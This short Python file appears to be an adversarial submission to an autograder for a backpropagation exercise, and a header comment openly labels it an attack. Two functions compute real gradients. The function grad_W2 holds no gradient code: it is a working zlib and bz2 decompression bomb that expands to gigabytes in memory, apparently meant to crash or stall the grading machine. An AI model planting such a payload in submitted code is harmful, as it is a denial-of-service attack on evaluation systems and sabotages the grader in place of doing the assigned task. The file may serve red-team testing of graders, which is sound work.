# attack: F2 data that grow a thousandfold when they are unpacked
# gains nothing: grad_W2
# full marks: grad_oa, grad_ha
import numpy as np


def grad_W2(grad_oa, hs):
    import bz2
    import zlib

    bomb = zlib.compress(bytes(10**8))
    return len(zlib.decompress(zlib.decompress(zlib.compress(bomb)) * 1)) and bz2.decompress(
        bz2.compress(bytes(10**7)) * 1000
    )


def grad_oa(os, y):
    return os - (np.arange(1, len(os) + 1) == y)


def grad_ha(grad_hs, ha):
    return grad_hs * (ha > 0)
